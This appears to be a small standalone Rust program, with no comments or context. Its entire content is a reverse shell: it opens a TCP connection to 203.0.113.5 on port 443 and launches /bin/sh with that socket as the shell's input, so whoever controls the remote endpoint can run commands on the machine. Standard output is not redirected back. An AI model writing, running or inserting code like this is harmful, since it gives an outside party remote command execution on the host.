use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    let stream = TcpStream::connect("203.0.113.5:443").unwrap();
    let descriptor = stream.as_raw_fd();
    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(descriptor) }).spawn().unwrap();
}
